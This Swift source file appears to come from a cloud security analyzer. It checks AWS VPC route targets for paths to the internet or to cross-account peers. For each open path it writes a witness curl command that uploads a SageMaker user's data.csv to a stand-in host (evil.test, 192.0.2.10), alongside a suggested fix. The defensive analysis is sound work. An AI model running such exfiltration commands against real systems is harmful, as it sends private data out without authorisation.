import CordonModel

/// Where one route of a table leads.
struct RouteTarget {
  let route: CloudResource
  let destination: Reading<String>

  init(_ route: CloudResource, _ estate: CloudEstate) {
    self.route = route
    let names = ["DestinationCidrBlock", "DestinationIpv6CidrBlock", "DestinationPrefixListId"]
    let given = names.compactMap { route[$0] }.first
    destination = estate.text(given)
  }

  /// The door that the route opens; nil for one that stays inside.
  func door(_ network: Workloads.Network, _ blocked: PublicAccessBlock, _ estate: CloudEstate) -> Door? {
    let name = "\(route.id)"
    for property in [
      "GatewayId", "NatGatewayId", "EgressOnlyInternetGatewayId", "CarrierGatewayId", "TransitGatewayId",
      "VpcPeeringConnectionId", "NetworkInterfaceId", "InstanceId", "VpcEndpointId", "CoreNetworkArn",
      "LocalGatewayId", "VpnGatewayId",
    ] {
      guard route[property] != nil else { continue }
      let target = estate.text(route, property)
      guard let text = target.value else { return .unknown(name, target.unknowns, route) }
      return door(name, property, text, network, blocked, estate)
    }
    return .unknown(name, "a route without a target", route)
  }

  private func door(
    _ name: String, _ property: String, _ target: String, _ network: Workloads.Network,
    _ blocked: PublicAccessBlock, _ estate: CloudEstate
  ) -> Door? {
    switch property {
    case "GatewayId" where target == "local" || target.hasPrefix("vpce-"): return nil
    case "GatewayId" where target.hasPrefix("vgw-"):
      return .unknown(name, "what lies behind virtual private gateway \(target) is not in the files", route)
    case "GatewayId", "NatGatewayId", "EgressOnlyInternetGatewayId", "CarrierGatewayId":
      return toInternet(name, property, network, blocked, estate)
    case "VpcPeeringConnectionId": return peer(name, target, estate)
    case "VpcEndpointId" where isFirewall(target, estate):
      // What the firewall lets through is judged by a route of its own.
      return nil
    default:
      return .unknown(
        name, "a route to \(target): what lies behind it is not in the files, or not modelled", route)
    }
  }

  private func isFirewall(_ target: String, _ estate: CloudEstate) -> Bool {
    estate.all("AWS::NetworkFirewall::Firewall").contains { target.contains("\($0.id)") }
  }

  private func toInternet(
    _ name: String, _ property: String, _ network: Workloads.Network, _ blocked: PublicAccessBlock,
    _ estate: CloudEstate
  ) -> Door {
    // VPC guide, security-vpc-bpa-basics: carrier gateways of Wavelength Zones are not blocked.
    if let options = blocked.resource, property != "CarrierGatewayId", blocked.holds(for: network, estate) {
      return .closed(
        name, HeldControl(options, layer: "block public access", property: ["InternetGatewayBlockMode"]))
    }
    guard let place = destination.value else {
      return destination.unknowns.isEmpty
        ? .unknown(name, "a route without a destination", route) : .unknown(name, destination.unknowns, route)
    }
    let ipv6 = property.hasPrefix("Egress") || place.contains(":")
    return .open(
      name,
      RouteWitness(
        ipv6
          ? "curl -6 --data-binary @/home/sagemaker-user/data.csv https://evil.test/"
          : "curl --data-binary @/home/sagemaker-user/data.csv https://evil.test/",
        by: .insider("route \(route.id)"),
        story: """
          Anyone with a shell in \(network.resource.id) sends a file to a host of the internet; packets for \(place) leave by \
          \(route.id).
          """,
        fix: "delete route \(route.id)", at: route, property))
  }

  /// Peering is not transitive (VPC peering guide, "edge to edge routing"): a peer's gateways cannot be used through it.
  private func peer(_ name: String, _ target: String, _ estate: CloudEstate) -> Door {
    guard let peering = estate.find(target, "AWS::EC2::VPCPeeringConnection") else {
      return .unknown(name, "peering connection \(target) is not in the files", route)
    }
    let owner = estate.text(peering, "PeerOwnerId")
    if let account = owner.value, account != estate.account {
      return .open(
        name,
        RouteWitness(
          "curl --data-binary @/home/sagemaker-user/data.csv http://192.0.2.10/",
          by: .insider("peering connection \(peering.id)"),
          story:
            "Anyone with a shell sends a file to an address of account \(account)'s network over the peering.",
          fix: "delete route \(route.id)", at: route, "VpcPeeringConnectionId"))
    }
    let known = ["VpcId", "PeerVpcId"].allSatisfy { end in
      estate.text(peering, end).value.flatMap { estate.find($0, "AWS::EC2::VPC") } != nil
    }
    guard known, owner.unknowns.isEmpty else {
      return .unknown(name, "one end of peering connection \(peering.id) is not in the files", peering)
    }
    return .unknown(
      name, "what listens in the network behind peering connection \(peering.id) is not modelled", peering)
  }
}
